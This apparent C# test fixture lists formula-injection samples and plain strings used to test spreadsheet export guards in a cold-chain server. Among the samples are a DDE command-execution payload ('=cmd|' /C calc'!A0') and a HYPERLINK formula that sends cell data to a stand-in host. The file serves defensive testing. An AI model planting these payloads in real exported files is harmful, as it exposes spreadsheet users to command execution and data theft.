namespace ColdChain.Server.Tests.Reports.Sheets;

/// <summary>Texts that a spreadsheet would run, or that it may hold.</summary>
internal static class NastyTexts
{
    /// <summary>Each would be a formula where nobody guards against it.</summary>
    public static readonly string[] LikeFormulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00A0=1+1", "\u3000=1+1", "\u200B=1+1", "\u200F=1+1", "\uFEFF=1+1",
        "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "\uFE661+1", "-2.5", "-", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "\"=1+1", "\ttab",
    ];

    /// <summary>None is one.</summary>
    public static readonly string[] Plain =
    [
        "4,5 °C", "a=b", "1-2", "O+", "porte ouverte, refermée", "il a dit \"stop\"", "deux\nlignes", "أكياس الدم", "'quoted", " espace", "_x0041_", "a\\b", "🩸 poche", "1e9", "\u22122,5",
    ];
}
